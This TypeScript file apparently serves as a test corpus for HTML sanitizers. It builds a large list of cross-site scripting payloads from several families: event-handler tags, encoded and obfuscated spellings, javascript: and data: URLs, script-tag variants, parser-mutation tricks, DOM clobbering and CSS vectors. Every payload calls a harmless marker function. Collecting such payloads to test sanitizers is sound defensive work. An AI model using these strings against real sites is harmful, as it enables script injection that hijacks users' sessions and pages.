/**
 * HTML by which people try to have a page run a script: each calls `ran()`, by itself or when somebody presses it. For
 * whoever cleans HTML, on the server and in the browser.
 */

/** Handlers that need nobody to do anything, or next to nothing. */
const HANDLERS = [
  '<img src=x onerror=ran()>',
  '<img srcset=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><image href=x onerror=ran() /></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><set attributeName=x onend=ran() dur=1ms>',
  '<svg><a onload=ran()><text y=20>x</text></a></svg>',
  '<math><mtext onload=ran()>x</mtext></math>',
  '<body onload=ran()>',
  '<body onpageshow=ran()>',
  '<details open ontoggle=ran()><summary>x</summary></details>',
  '<video src=x onerror=ran()></video>',
  '<video><source src=x onerror=ran()></video>',
  '<audio src=x onerror=ran()></audio>',
  '<marquee onstart=ran()>x</marquee>',
  '<input autofocus onfocus=ran()>',
  '<input type=image src=x onerror=ran()>',
  '<select autofocus onfocus=ran()></select>',
  '<textarea autofocus onfocus=ran()></textarea>',
  '<button autofocus onfocus=ran()>x</button>',
  '<a href=# autofocus onfocus=ran()>x</a>',
  '<p tabindex=0 autofocus onfocus=ran()>x</p>',
  '<iframe onload=ran()></iframe>',
  '<object data=x onerror=ran()></object>',
  '<embed src=x onload=ran()>',
  '<style onload=ran()></style>',
  '<link rel=stylesheet href=x onerror=ran()>',
  '<script src=x onerror=ran()></script>',
  '<p style=animation-name:x onanimationstart=ran()>x</p>',
  '<td onmouseover=ran() background=x>x</td>',
  '<dialog open onclose=ran()><form method=dialog><button>x</button></form></dialog>',
  '<x-custom onclick=ran() contenteditable autofocus onfocus=ran()>x</x-custom>',
]

/** The same written otherwise: browsers read them alike, filters that look for text do not. */
const SPELLINGS: ((payload: string) => string)[] = [
  payload => payload,
  payload => payload.replaceAll(/ on(\w+)=/g, (_, name: string) => ` ON${name.toUpperCase()}=`),
  payload => payload.replace(/^<(\w+) /, '<$1/').replaceAll(' on', '/on'),
  payload => payload.replaceAll(/ (on\w+)=ran\(\)/g, '\n$1\t=\r"&#114;an&lpar;&#x29;"'),
  payload => `<p>before<b>${payload}</b>after`,
]

/** Places for an address that runs. */
const LINKS: ((address: string) => string)[] = [
  address => `<a href="${address}">x</a>`,
  address => `<a target=_top rel=opener href='${address}'><img alt="${address}">x</a>`,
  address => `<img src="${address}" alt=x>`,
  address => `<iframe src="${address}"></iframe>`,
  address => `<object data="${address}"></object>`,
  address => `<embed src="${address}">`,
  address => `<form action="${address}"><button>x</button></form>`,
  address => `<button formaction="${address}">x</button>`,
  address => `<svg><a href="${address}"><text>x</text></a></svg>`,
  address => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  address => `<math href="${address}">x</math>`,
  address => `<area href="${address}"><base href="${address}">`,
  address => `<meta http-equiv=refresh content="0;url=${address}">`,
]

const ADDRESSES = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  ' javascript:ran()',
  '&#x1;javascript:ran()',
  'java&#10;script:ran()',
  'java&Tab;script&colon;ran()',
  '&#106;&#97;&#118;&#97;script:ran()',
  'javascript://example.org/%0Aran()',
  'data:text/html,&lt;script&gt;parent.ran()&lt;/script&gt;',
  'data:image/svg+xml,&lt;svg onload=ran() xmlns=http://www.w3.org/2000/svg&gt;',
  'vbscript:ran()',
  'blob:https://example.org/0',
]

const SCRIPTS = [
  '<script>ran()</script>',
  '<SCRIPT>ran()</SCRIPT>',
  '<script\n>ran()</script\n>',
  '<script/x>ran()</script/x>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<<script>ran()//<</script>',
  '<script>ran()',
  '<svg><script>ran()</script></svg>',
  '<svg><script href="data:,ran()" /></svg>',
  '<svg><script>&#114;an()</script></svg>',
  '<math><script>ran()</script></math>',
  '<script type=module>ran()</script>',
  '<script src="data:,ran()"></script>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.ran()&gt;"></iframe>',
  '<template><script>ran()</script></template>',
  '<template shadowrootmode=open><img src=x onerror=ran()></template>',
  '<portal src="javascript:ran()"></portal>',
  '<?xml-stylesheet href="javascript:ran()"?>',
  '<!--[if gte IE 4]><script>ran()</script><![endif]-->',
]

/** Markup that is another one when it is read a second time. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<textarea><p title="</textarea><img src=x onerror=ran()>">',
  '<title><p title="</title><img src=x onerror=ran()>">',
  '<xmp><p title="</xmp><img src=x onerror=ran()>">',
  '<noembed><p title="</noembed><img src=x onerror=ran()>">',
  '<noframes><p title="</noframes><img src=x onerror=ran()>">',
  '<iframe><p title="</iframe><img src=x onerror=ran()>">',
  '<style><p title="</style><img src=x onerror=ran()>">',
  '<script><p title="</script><img src=x onerror=ran()>">',
  '<plaintext><p title="</plaintext><img src=x onerror=ran()>">',
  '<svg><style><p title="</style><img src=x onerror=ran()>">',
  '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
  '<svg><desc><style><img src=x onerror=ran()></style></desc></svg>',
  '<svg><title><style><img title="</style><img src=x onerror=ran()>"></style></title></svg>',
  '<svg><foreignObject><p><img src=x onerror=ran()></p></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">',
  '<math><mtext><table><mglyph><style><math><img src=x onerror=ran()></math></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran()></style></annotation-xml></math>',
  '<math><mi><table><style><a title="</style><img src=x onerror=ran()>"></style></table></mi></math>',
  '<svg><p><style><!--</style><img src=x onerror=ran()>--></style>',
  '<select><style></select><img src=x onerror=ran()></style>',
  '<select><option><style></option></select><img src=x onerror=ran()></style>',
  '<table><td><svg><desc><td><style><img src=x onerror=ran()></style>',
  '<table><caption><svg><title><table><caption></caption></table><style><img src=x onerror=ran()>',
  '<a><a title="</a><img src=x onerror=ran()>">x</a></a>',
  '<p><svg></p><img title="</svg><img src=x onerror=ran()>">',
  '<!--><img src=x onerror=ran()>-->',
  '<!--->--!><img src=x onerror=ran()>',
  '<![CDATA[<img src=x onerror=ran()>]]>',
  '<svg><![CDATA[><img src=x onerror=ran()>]]></svg>',
  '<img alt="`><img src=x onerror=ran()>`">',
  '<img src="x` onerror=ran() `">',
  '<p title="</p><img src=x onerror=ran()>">x</p>',
  `${'<div>'.repeat(300)}<img src=x onerror=ran()>`,
  `${'<blockquote>'.repeat(600)}<img src=x onerror=ran()>`,
  '<hr onclick=ran()>',
  `${'<svg>'.repeat(60)}<style><img src=x onerror=ran()>`,
  '<div><template><style></template><img src=x onerror=ran()></style></div>',
]

/** Names by which elements take the place of what scripts look for. */
const CLOBBERED = [
  '<form><input name=attributes><img src=x onerror=ran()></form>',
  '<form onclick=ran()><input name=removeAttribute></form>',
  '<form><input name=parentNode><input name=nodeName><img src=x onerror=ran()></form>',
  '<form id=f><input name=childNodes></form><img form=f src=x onerror=ran()>',
  '<img name=createElement src=x onerror=ran()>',
  '<img name=implementation><img name=getElementById src=x onerror=ran()>',
  '<a id=ran></a><a id=ran name=toString href="javascript:ran()">x</a>',
  '<a id=__proto__ name=onerror href="javascript:ran()">x</a>',
]

const STYLES = [
  '<p style="background:url(javascript:ran())">x</p>',
  '<p style="width:expression(ran())">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="-moz-binding:url(//example.org/x#x)">x</p>',
  '<style>@import "javascript:ran()";</style>',
  '<style>p{background:url("javascript:ran()")}</style>',
  '<p style="position:fixed;inset:0;z-index:9999999">over everything</p>',
  '<link rel=stylesheet href="javascript:ran()">',
]

const BROKEN = [
  '<img src=x onerror=ran()//',
  '<img """><script>ran()</script>">',
  '<img src=x onerror\u000b=ran()>',
  '<img src=x onerror\u0000=ran()>',
  '<im\u0000g src=x onerror=ran()>',
  '<img src=x:x onerror="ran()" alt="\'"\'>',
  '<img/src/onerror=ran()>',
  '<img src=x\u00a0onerror=ran()>',
  '<svg/onload=ran()',
  '<a href="x"onclick="ran()">x</a>',
  '<p/onclick=ran()//x>x',
  '</p onclick=ran()><img src=x onerror=ran()>',
  '&lt;img src=x onerror=ran()&gt;<img src=x onerror=ran()>',
  '<img src="x" onerror="&#x72;an()">',
  '\u2028<img src=x onerror=ran()>\u2029',
  '<ſcript>ran()</ſcript><img src=x onerror=ran()>',
]

export const htmlPayloads: readonly string[] = [
  ...HANDLERS.flatMap(payload => SPELLINGS.map(spell => spell(payload))),
  ...LINKS.flatMap(link => ADDRESSES.map(link)),
  ...SCRIPTS,
  ...MUTATIONS,
  ...CLOBBERED,
  ...STYLES,
  ...BROKEN,
]
